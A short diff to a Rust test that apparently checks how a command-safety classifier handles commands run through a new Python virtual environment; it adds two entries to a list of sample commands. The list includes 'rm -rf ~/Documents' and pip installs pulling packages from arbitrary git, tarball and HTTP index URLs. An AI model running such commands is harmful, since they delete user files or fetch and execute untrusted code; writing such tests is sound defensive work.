@@ -40,6 +40,8 @@ fn environments_that_the_action_makes_are_known() {
             // it is only an interpreter
             "python3 -m venv .venv && .venv/bin/python bad.py",
             "python3 -m venv .venv && . .venv/bin/activate && rm -rf ~/Documents",
+            "python3 -m venv .venv && .venv/bin/pip install git+https://github.com/someone/x",
+            "python3 -m venv .venv && .venv/bin/pip install 'x @ https://a.example.net/x.tar.gz'",
             "python3 -m venv .venv && .venv/bin/pip install --index-url http://203.0.113.5/simple x",
         ],
     );
